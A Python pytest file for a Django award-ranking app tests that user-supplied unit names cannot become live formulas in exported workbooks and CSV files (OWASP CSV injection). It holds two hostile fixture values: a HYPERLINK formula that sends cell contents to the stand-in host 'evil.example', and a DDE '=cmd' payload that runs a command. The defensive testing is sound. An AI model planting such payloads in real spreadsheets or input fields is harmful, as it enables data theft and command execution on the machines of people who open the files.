"""Text from users never becomes a live formula in a workbook or a CSV file we hand out
(OWASP "CSV injection"), and an operator's own answers workbook still round-trips."""

import csv
import io
import re
import zipfile

import pytest

from award.exports import UnitsExporter
from award.models import Unit
from common.xlsx import csv_safe
from laporan.exports import RankingExporter
from penilaian import services as scoring_services
from tests.laporan.test_reports import make
from tests.penilaian import golden

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
EVIL_ANSWER = "=cmd|' /C calc'!A0"


def formulas_in(data: bytes) -> list[str]:
    """Every formula cell of every sheet of an .xlsx, read from its XML."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(
                    r"<(?:\w+:)?f\b[^>]*>(.*?)</(?:\w+:)?f>", archive.read(name).decode()
                )
                found += re.findall(r'<c\b[^>]*\bt="str"', archive.read(name).decode())
    return found


def test_csv_safe_neutralises_the_owasp_prefixes():
    for value in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_safe(value) == "'" + value
    assert csv_safe("Desa Swarga Bara") == "Desa Swarga Bara"
    assert csv_safe(12.5) == 12.5


@pytest.mark.django_db(transaction=True)
def test_a_hostile_unit_name_stays_text_in_the_ranking_workbook_and_csv(default_levels, admin_user):
    period, units, _juries = golden.main_period()
    Unit.objects.filter(pk=units["G01"].pk).update(name=EVIL_NAME)
    run = scoring_services.scoring_run_start(period=period, inline=True)
    assert run.status == "succeeded", run.message
    job = make("ranking_export", period, admin_user)
    with job.file.open("rb") as handle:
        data = handle.read()
    assert formulas_in(data) == [], "no cell of the workbook is a formula"
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(data))
    texts = [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == EVIL_NAME
    ]
    assert texts, "the name is shown as typed"
    level = units["G01"].level
    rows = list(RankingExporter(run=run).csv_rows(level.code))
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    fields = [field for row in csv.reader(io.StringIO(buffer.getvalue())) for field in row]
    assert "'" + EVIL_NAME in fields
    assert not any(
        isinstance(field, str) and field.startswith("=") for row in rows for field in row
    )


@pytest.mark.django_db
def test_units_workbook_with_hostile_names_has_no_formula():
    from award.models import Level

    Unit.objects.create(code="64.99.01", name=EVIL_NAME, level=Level.objects.get(code="opd"))
    assert formulas_in(UnitsExporter(with_units=True).xlsx_bytes()) == []
